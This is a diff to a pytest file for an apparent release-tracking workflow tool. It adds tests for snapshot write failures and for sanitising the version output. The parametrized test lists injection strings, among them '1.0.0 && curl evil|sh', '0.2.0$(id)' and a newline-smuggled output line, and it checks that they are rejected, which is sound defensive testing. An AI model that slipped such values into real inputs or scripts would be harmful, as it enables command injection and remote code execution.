@@ -193,6 +193,34 @@ def test_the_snapshot_is_written_for_the_docs(runner: Runner) -> None:
     assert (snapshot["version"], snapshot["schema"]) == ("0.2.0", "fastrel.report/1")
 
 
+def test_a_snapshot_that_cannot_be_written_leaves_outputs_and_summary(runner: Runner) -> None:
+    (runner.project.path / "out").write_text("a file where the folder would be")
+    ran = runner.on("push", runner.at_home(push("refs/heads/main")), "--snapshot", "out/fastrel.json")
+    assert ran.code == 2
+    assert ran.outputs["version"] == "0.2.0"
+    assert set(ran.outputs) == {"changed", "version"}
+    assert f"Tracker #{runner.number}: Release 0.2.0" in ran.summary
+    assert "The snapshot: out/fastrel.json cannot be written" in ran.summary
+    assert "::error::out/fastrel.json cannot be written" in ran.log
+
+
+@pytest.mark.parametrize(
+    "version", ["1.0.0 && curl evil|sh", "0.2.0$(id)", "0.2.0\tx", "v0.2.0", "0.2", "", "0.2.0%0Aversion=6.6.6"]
+)
+def test_the_version_that_a_workflow_gets_is_one_or_empty(runner: Runner, version: str) -> None:
+    """The next step of a workflow may put it into a script."""
+    comment = runner.write("mia", "/status")
+    payload = runner.commented(comment)
+    store = runner.project.twin.store
+    tracker = store.issues[runner.number]
+    store.edit_body(tracker, tracker.body.replace('"0.2.0"', f'"{version}"', 1), "mia")
+    ran = runner.on("issue_comment", payload)
+    assert ran.outputs == {"changed": "false", "version": ""}
+    payload = runner.at_home(recorded("issues", "edited"))
+    part(payload, "issue").update(runner.issue(runner.number))
+    assert runner.on("issues", payload).outputs["version"] == ""
+
+
 def test_without_an_open_tracker_nothing_is_done(runner: Runner) -> None:
     store = runner.project.twin.store
     store.close(store.issues[runner.number])
